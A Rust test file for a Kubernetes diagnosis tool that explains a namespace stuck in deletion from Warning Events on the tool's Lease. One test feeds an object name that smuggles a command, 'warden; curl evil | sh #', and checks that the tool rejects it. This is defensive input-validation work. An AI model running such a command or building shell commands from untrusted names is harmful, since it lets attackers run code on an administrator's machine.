//! Tests of namespaces that only the storage backend has, according to Events.

use super::*;

const EVENTS: &str = "/api/v1/namespaces/system/events";
const MESSAGE: &str =
    "namespace shop could not be deleted from directory; Volume Warden retries: it does not answer";

/// A Warning about the deletion of the namespace `shop`, with these changes.
fn event(changes: &Value) -> Value {
    let mut event = json!({
        "metadata": {"name": "e", "namespace": "system"}, "reason": "NamespaceDeleteFailed",
        "involvedObject": {"kind": "Lease", "namespace": "system", "name": "warden", "uid": "l"},
        "message": MESSAGE, "eventTime": "2026-01-01T00:30:00.000000Z",
    });
    json_patch::merge(&mut event, changes);
    event
}

/// The Lease `system/warden`, of a process that runs this component.
fn lease(component: &str) -> Value {
    let labels = json!({
        (format!("volume-warden.dev/{component}")): "", "app.kubernetes.io/part-of": "volume-warden",
    });
    json!({"metadata": {"name": "warden", "namespace": "system", "uid": "l", "labels": labels}})
}

#[tokio::test]
async fn a_namespace_that_the_backend_has_is_explained_by_an_event_on_the_lease() {
    let cluster = Cluster::default().with(EVENTS, event(&json!({})));
    let cluster = cluster.lease(lease("namespace-gc")).installed("system");
    let answer = cluster.explained(&Object::namespace("shop")).await;
    assert_eq!(codes(&answer), [Code::BackendNotEmpty]);
    assert_eq!(command(&answer), "kubectl describe lease warden -n system");
}

/// The author of an Event chooses the name of its object. In a command it could be run by the shell
/// of an administrator.
#[tokio::test]
async fn an_event_about_no_lease_of_volume_warden_does_not_count() {
    let named = json!({"involvedObject": {"name": "warden; curl evil | sh #", "uid": null}});
    let elsewhere = json!({"metadata": {"namespace": "tenant"}});
    for (changes, component) in [
        (named, "namespace-gc"),
        (elsewhere, "namespace-gc"),
        (json!({}), "pvc-trash"),
    ] {
        let cluster = Cluster::default().with(EVENTS, event(&changes));
        let cluster = cluster.lease(lease(component)).installed("system");
        let explanation = cluster.explain(&Object::namespace("shop")).await;
        assert_eq!(explanation, Explanation::NotFound, "{changes} {component}");
    }
}

/// A user who may write Leases and Events in one namespace can write both.
#[tokio::test]
async fn an_event_on_a_lease_outside_of_an_installation_does_not_count() {
    let cluster = Cluster::default().with(EVENTS, event(&json!({})));
    let cluster = cluster.lease(lease("namespace-gc")).installed("elsewhere");
    let explanation = cluster.explain(&Object::namespace("shop")).await;
    assert_eq!(explanation, Explanation::NotFound);
}

/// Without the Leases, it is not known whether the Event is one of Volume Warden.
#[tokio::test]
async fn an_event_without_readable_leases_is_no_answer() {
    let shop = Object::namespace("shop");
    let cluster = || Cluster::default().without("leases");
    let explanation = cluster()
        .with(EVENTS, event(&json!({})))
        .explain(&shop)
        .await;
    let sentence = "leases could not be read: not for you".to_owned();
    assert_eq!(explanation, Explanation::Unread(vec![sentence]));
    assert_eq!(cluster().explain(&shop).await, Explanation::NotFound);
}
